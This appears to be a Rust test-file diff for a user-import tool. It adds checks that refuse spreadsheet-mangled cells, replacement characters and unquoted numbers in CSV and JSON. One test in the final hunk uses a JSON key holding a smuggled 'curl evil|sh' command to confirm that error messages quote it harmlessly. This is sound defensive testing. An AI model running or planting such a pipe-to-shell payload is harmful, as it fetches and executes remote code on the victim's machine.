@@ -35,7 +35,10 @@ fn names_that_a_spreadsheet_changed_are_refused() {
         ("'000123", "begins with the apostrophe"),
         ("\"=\"\"000123\"\"\"", "is a formula"),
         ("#N/A", "in place of a value"),
-        ("NULL", "how a database exports no value"),
+        (
+            "NULL",
+            "empty the cell; if it is meant as it is, import it as JSON lines",
+        ),
     ] {
         refused(
             format!("email,uid\nann@ex.co,{cell}\n"),
@@ -72,6 +75,41 @@ fn names_that_a_spreadsheet_changed_are_refused() {
         "--map uid=attributes.uid",
         &["uid: ", "write it as a text, in quotes"],
     );
+}
+
+#[test]
+fn json_is_judged_like_csv() {
+    let ids = "--map uid=external_id --provisioner g";
+    let lost = "has U+FFFD in place of a character that was lost";
+    for (member, options, parts) in [
+        (
+            r#""attributes":{"a":"x\ufffd"}"#,
+            "",
+            ["the attribute \"a\": ", lost],
+        ),
+        (
+            r#""attributes":{"a":["x","\ufffd"]}"#,
+            "",
+            ["the attribute \"a\": ", lost],
+        ),
+        (
+            r#""uid":"x\ufffd""#,
+            ids,
+            ["the external id of \"g\": ", lost],
+        ),
+    ] {
+        let file = format!(r#"{{"email":"ann@ex.co",{member}}}"#);
+        refused(file, options, &parts);
+    }
+    for number in ["1.10", "3.14159265358979323846", "1e3", "-0"] {
+        let file = format!(r#"{{"email":"ann@ex.co","uid":{number}}}"#);
+        for options in [ids, "--map uid=attributes.uid"] {
+            refused(&file, options, &["write it as a text, in quotes"]);
+        }
+    }
+    // Texts that only a spreadsheet would write in place of a value are the writer's own here.
+    let file = r##"{"email":"ann@ex.co","username":"NULL","attributes":{"a":"#REF!"}}"##;
+    assert_eq!(listed(file, "", "username,attributes.a"), ["NULL,#REF!"]);
 }
 
 #[test]
@@ -166,6 +204,14 @@ fn files_of_another_kind_are_told() {
         "",
         &["jq .data.rows FILE"],
     );
+    let folder = Folder::new();
+    for name in ["x;curl evil|sh;", "1a", "a-b", ""] {
+        let file = format!(r#"{{"{name}":[{{"mail":"a@ex.co"}}]}}"#);
+        folder.write("users.json", file);
+        let err = folder.refused("import users.json");
+        assert_says(&err, &[&format!("in its list {name:?}, import that alone")]);
+        assert!(!err.contains("jq"), "{err}");
+    }
 }
 
 #[test]
